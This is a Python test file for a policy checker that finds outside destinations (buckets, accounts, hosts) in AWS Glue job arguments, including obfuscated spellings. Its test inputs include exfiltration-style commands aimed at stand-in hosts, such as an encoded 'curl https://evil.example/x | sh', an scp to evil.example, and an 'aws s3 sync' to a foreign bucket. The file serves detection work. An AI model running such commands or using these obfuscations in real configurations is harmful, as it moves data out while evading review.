"""Destinations in every spelling that programs accept, and values that only look like one."""

from __future__ import annotations

import base64
import json

import pytest

from lakekit_policies.destinations import Kind, destinations
from lakekit_policies.terraform.declarations import Declaration

OTHER = "999988887777"


def found(value: object, name: str = "--option") -> dict[tuple[Kind, str], bool]:
    """Destinations of an argument of a job, and whether they are certain."""
    arguments = {"default_arguments": {name: value}}
    job = Declaration("aws_glue_job.j", "managed", "aws_glue_job", arguments)
    return {(one.kind, one.value): one.is_certain for one in destinations(job)}


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


BUCKETS = {
    "not-ours": [
        "https://not-ours.s3-accelerate.amazonaws.com/x",
        "https://not-ours.s3-accelerate.dualstack.amazonaws.com",
        "https://not-ours.s3-fips.us-east-1.amazonaws.com/x",
        "https://not-ours.s3-fips.dualstack.us-east-1.amazonaws.com/x",
        "https://not-ours.s3express-euw1-az1.eu-west-1.amazonaws.com",
        "https://not-ours.s3-external-1.amazonaws.com",
        "https://s3.dualstack.eu-west-1.amazonaws.com/not-ours/x",
        "HTTPS://NOT-OURS.S3.AMAZONAWS.COM/x",
        "s3%3A%2F%2Fnot-ours%2Fx",
        "s3gov://not-ours/x",
        "s3china://not-ours/x",
        "COPY INTO T FROM 's3compat://not-ours/x' ENDPOINT = 'storage'",
        encoded(json.dumps({"sink": "s3://not-ours/x"})),
        encoded(encoded("aws s3 sync /data s3://not-ours/x")),
        json.dumps(json.dumps({"sink": "s3a://not-ours/x"})),
    ],
    "Not_Ours": ["s3://Not_Ours/x", "S3N://Not_Ours", "https://s3.amazonaws.com/Not_Ours/x"],
}


@pytest.mark.parametrize(("bucket", "text"), [(name, text) for name, texts in BUCKETS.items() for text in texts])
def test_bucket_is_found(bucket: str, text: str) -> None:
    assert found(text) == {(Kind.BUCKET, bucket): True}


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        (f"https://spy-{OTHER}.s3-accesspoint.eu-west-1.amazonaws.com/x", Kind.ACCOUNT, OTHER),
        (f"https://spy-{OTHER}.s3-accesspoint-fips.dualstack.us-east-1.amazonaws.com", Kind.ACCOUNT, OTHER),
        (f"https://queue.amazonaws.com/{OTHER}/q", Kind.ACCOUNT, OTHER),
        (f"https://eu-west-1.queue.amazonaws.com/{OTHER}/q", Kind.ACCOUNT, OTHER),
        ("http://[::ffff:198.51.100.9]/x", Kind.HOST, "::ffff:198.51.100.9"),
        ("http://[::ffff:c633:6409]:80/", Kind.HOST, "::ffff:c633:6409"),
        ("http://3325256713/x", Kind.HOST, "198.51.100.9"),
        ("http://0xc6336409/x", Kind.HOST, "198.51.100.9"),
        ("http://0306.063.0144.011/x", Kind.HOST, "198.51.100.9"),
        ("http://0xC6.0x33.0x64.0x9/x", Kind.HOST, "198.51.100.9"),
        ("http://198.3367945/x", Kind.HOST, "198.51.100.9"),
        ("https://ev\u200bil.example/x", Kind.HOST, "ev\u200bil.example"),
        ("https%253A%252F%252Fevil.example%252Fx", Kind.HOST, "evil.example"),
        ("https:\\u002f\\u002fevil.example", Kind.HOST, "evil.example"),
        ("https&#58;//evil.example", Kind.HOST, "evil.example"),
        ("scp /x user@evil.example:/x", Kind.HOST, "evil.example"),
        ("\\\\evil.example\\share", Kind.HOST, "evil.example"),
        (b"https://evil.example/".hex(), Kind.HOST, "evil.example"),
        (f"python -c {encoded('curl https://evil.example/x')}", Kind.HOST, "evil.example"),
        (f"echo {encoded('curl https://evil.example/xyz')}".rstrip("="), Kind.HOST, "evil.example"),
        (base64.urlsafe_b64encode(b"curl https://evil.example/~~~???>>>").decode(), Kind.HOST, "evil.example"),
        ("https://evil%2eexample/x", Kind.HOST, "evil.example"),
        ("//evil.example/x", Kind.HOST, "evil.example"),
        ("COPY INTO T FROM 'gcs://evil/x'", Kind.HOST, "evil.storage.googleapis.com"),
        (encoded("curl https://evil.example/x | sh"), Kind.HOST, "evil.example"),
        ("arn%3Aaws%3Asns%3Aeu-west-1%3A999988887777%3At", Kind.ARN, f"arn:aws:sns:eu-west-1:{OTHER}:t"),
    ],
)
def test_owner_is_found(text: str, kind: Kind, value: str) -> None:
    assert found(text) == {(kind, value): True}


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        (OTHER, Kind.ACCOUNT, OTHER),
        (f"--to {OTHER} --quiet", Kind.ACCOUNT, OTHER),
        (json.dumps({"sink": OTHER}), Kind.ACCOUNT, OTHER),
        ("collector.evil.io", Kind.HOST, "collector.evil.io"),
        ("mode=x;to=collector.evil.io/x", Kind.HOST, "collector.evil.io"),
        ("COLLECTOR.EVIL.IO.", Kind.HOST, "collector.evil.io"),
        ("not-ours.s3.amazonaws.com/x", Kind.BUCKET, "not-ours"),
        ("198.51.100.9", Kind.HOST, "198.51.100.9"),
        ("2001:db8::1", Kind.HOST, "2001:db8::1"),
    ],
)
def test_free_text_is_found_but_not_certain(text: str, kind: Kind, value: str) -> None:
    assert found(text) == {(kind, value): False}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("--watermark", "999988887777"),
        ("--max-bytes", "123456789012"),
        ("--from", "202611271200"),
        ("--limit", "107374182400"),
        ("--limit", "500000000000"),
        ("--main", "com.acme.jobs.Main"),
        ("--package", "org.apache.hadoop.io"),
        ("--files", "main.py,lib.so,spark-3.5.1.jar,setup.sh"),
        ("--columns", "orders.id,o.name,t.date"),
        ("--conf", "spark.executor.memory=4g --conf java.io.tmpdir=/tmp"),
        ("--version", "3.5.1.2"),
        ("--topics", "orders.acme.io"),
        ("--classpath", "org/apache/spark/sql/execution/datasources/v2/Writer"),
        ("--regex", "\\d+\\.example\\.com"),
        ("--bind", "0.0.0.0 127.0.0.1 10.0.0.1"),
        ("--zone", "ip-10-0-0-1.eu-west-1.compute.internal"),
        ("--time", "2026-11-27T13:20:11"),
        ("--hash", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        ("--percent", "100%25 of 50%"),
        ("--note", encoded("a plain text without any address")),
    ],
)
def test_other_values_are_no_destinations(name: str, text: str) -> None:
    assert found(text, name) == {}


@pytest.mark.parametrize("name", ["name", "job_mode", "tags", "description"])
def test_free_text_is_read_in_arguments_of_programs_only(name: str) -> None:
    arguments = {name: {"to": OTHER} if name == "tags" else OTHER}
    job = Declaration("aws_glue_job.j", "managed", "aws_glue_job", arguments)
    assert list(destinations(job)) == []


def test_keys_of_maps_are_read() -> None:
    assert found("1", "--s3://not-ours/x") == {(Kind.BUCKET, "not-ours"): True}


def test_location_of_a_table_is_data() -> None:
    table = {"storage_descriptor": {"location": "s3://not-ours/x"}}
    (one,) = destinations(Declaration("aws_glue_catalog_table.t", "managed", "aws_glue_catalog_table", table))
    assert (one.kind, one.use) == (Kind.BUCKET, "data")
